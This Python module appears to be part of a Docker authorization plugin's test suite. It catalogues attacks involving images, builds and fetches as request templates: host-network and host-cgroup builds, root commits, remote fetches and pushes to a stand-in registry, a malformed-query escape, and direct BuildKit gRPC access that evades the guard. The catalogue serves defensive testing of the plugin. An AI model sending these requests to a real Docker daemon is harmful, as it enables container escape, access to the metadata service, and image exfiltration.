"""Images, builds, and URLs that dockerd fetches for its callers."""

from __future__ import annotations

import json
from typing import Any, Final

from authz_plugin.tools.attack.catalogue.builders import (
    BUILD,
    DEVCONTAINER,
    NO_CONTAINER,
    NO_IMAGE,
    NO_REGISTRY,
    NOWHERE,
    archive,
    entry,
    get,
    post,
)
from authz_plugin.tools.attack.model import (
    TAR,
    CatalogueAttack,
    DockerObject,
    Family,
    Proof,
    RequestTemplate,
)
from authz_plugin.tools.validation.probes import NOTHING

IMAGES: Final = Family("images", "Images, builds, and what dockerd fetches")

_MADE: Final[dict[str, Any]] = {
    "proof": Proof("/images/<name>/json", "RepoTags", ["<name>:latest"]),
    "creates": (DockerObject("image"),),
}
_UPGRADE: Final = ("Upgrade", "h2c")
_NO_IMAGE: Final = "image might be filtered out"
"""The error of containerd's image store for an archive without an image."""

_IMPACT_IMAGE: Final = "an image of the caller's under a name that others trust"
_IMPACT_BUILD: Final = "the build's commands run where the host's own services listen"
_IMPACT_FETCH: Final = (
    "dockerd asks addresses that only the host reaches, such as a cloud's metadata service"
)
_IMPACT_BUILDKIT: Final = (
    "BuildKit's whole API on a connection of its own: builds, pushes, caches, unseen by the guard"
)


def _build(id_: str, title: str, query: str, **more: Any) -> CatalogueAttack:
    request = post(f"/build?t=<name>&{query}", BUILD, TAR)
    more = {"rule": "build.network", "impact": _IMPACT_BUILD, **more}
    return entry(IMAGES, id_, title, request, success_errors=NO_CONTAINER, **_MADE, **more)


def _named(id_: str, title: str, request: RequestTemplate, **more: Any) -> CatalogueAttack:
    """Return an attack that gives an image the name ``<name>``."""
    return entry(
        IMAGES, id_, title, request, rule="images.name", allowed_by=DEVCONTAINER,
        impact=_IMPACT_IMAGE,
        **_MADE, **{"success_errors": NO_IMAGE, **more},
    )  # fmt: skip


def _fetch(id_: str, title: str, request: RequestTemplate, **more: Any) -> CatalogueAttack:
    """Return an attack that has dockerd connect to an address, which refuses the connection."""
    more = {"rule": "", **more}
    return entry(
        IMAGES, id_, title, request, success_errors=NO_REGISTRY, impact=_IMPACT_FETCH, **more
    )


def _buildkit(id_: str, title: str, request: RequestTemplate) -> CatalogueAttack:
    return entry(
        IMAGES, id_, title, request, proof=Proof(form="stream"), success_errors="", rule="",
        impact=_IMPACT_BUILDKIT,
    )  # fmt: skip


ROWS: Final = (
    _named("import", "An image from an archive, under a name of choice",
           post("/images/create?fromSrc=-&repo=<name>&tag=latest", archive({"evil": "x"}), TAR),
           command="docker import archive name"),
    _named("tag", "A name of choice for another image",
           post("/images/<image>/tag?repo=<name>&tag=latest"), command="docker tag image name"),
    _named("commit", "A container as an image, under a name of choice",
           post("/commit?container=<own>&repo=<name>&tag=latest&changes=USER+root", "{}"),
           success_errors=NO_CONTAINER, command="docker commit <container> name"),
    entry(IMAGES, "load", "Images from an archive, under the names in it (here: none)",
          post("/images/load", archive({"manifest.json": "[]"}), TAR), command="docker load",
          proof=Proof(form="plain"), success_errors=_NO_IMAGE, rule="", allowed_by=DEVCONTAINER,
          impact=_IMPACT_IMAGE),
    _build("build-network", "A build in the host's network", "networkmode=host",
           command="docker build --network host ."),
    _build("build-network-other", "A build in another container's network",
           "networkmode=container:<own>"),
    _build("build-escape", "A build in the host's network, behind a broken query",
           "networkmode=host&%zz", rule="request.query"),
    _build("build-cgroup", "A build in the cgroup of the host's services",
           "cgroupparent=/system.slice", rule="build.cgroup-parent",
           impact="limits of others count, or none"),
    _fetch("build-remote", "A build that fetches a URL",
           post(f"/build?t=<name>&remote=http://{NOWHERE}/Dockerfile"),
           creates=(DockerObject("image"),),
           rule="build.remote", command="docker build http://…"),
    _fetch("import-url", "An image from a URL that only the host reaches",
           post(f"/images/create?fromSrc=http://{NOWHERE}/image.tar&repo=<name>&tag=latest"),
           creates=(DockerObject("image"),), rule="images.url", command="docker import http://…"),
    _fetch("pull", "An image from a registry of the caller's",
           post(f"/images/create?fromImage={NOWHERE}/{NOTHING}&tag=none"), allowed_by=DEVCONTAINER,
           command="docker pull registry/image"),
    _fetch("search", "A search in a registry of the caller's",
           get(f"/images/search?term={NOWHERE}/{NOTHING}"), allowed_by=DEVCONTAINER),
    _fetch("distribution", "A look into a registry of the caller's",
           get(f"/distribution/{NOWHERE}/{NOTHING}:none/json"),
           allowed_by=("portainer", "watchtower", "watchtower-monitor")),
    _fetch("login", "A login at a registry of the caller's",
           post("/auth", json.dumps(
               {"username": "x", "password": "x", "serveraddress": NOWHERE})),
           command="docker login registry"),
    entry(IMAGES, "push", "A push to a registry of the caller's",
          post(f"/images/{NOWHERE}/{NOTHING}/push?tag=none", b"", ("X-Registry-Auth", "e30=")),
          success_errors="does not exist", rule="images.push", allowed_by=DEVCONTAINER,
          command="docker push registry/image",
          impact="images leave the host, with what is in them"),
    _buildkit("session", "A session with BuildKit",
              post("/session", b"", _UPGRADE, ("X-Docker-Expose-Session-Uuid", "<name>"))),
    _buildkit("buildkit", "BuildKit's API, by POST /grpc", post("/grpc", b"", _UPGRADE)),
    entry(IMAGES, "buildkit-native", "BuildKit's API, by gRPC on the same socket",
          post("/moby.buildkit.v1.Control/ListWorkers"), grpc=True, proof=Proof(form="grpc"),
          success_errors="", rule="", impact=_IMPACT_BUILDKIT,
          engine_note="from 29.2 dockerd serves it and asks no plugin; set GODEBUG=http2server=0 "
          "for dockerd, or put the front before its socket (docs/how-to/native-grpc.md)"),
)  # fmt: skip
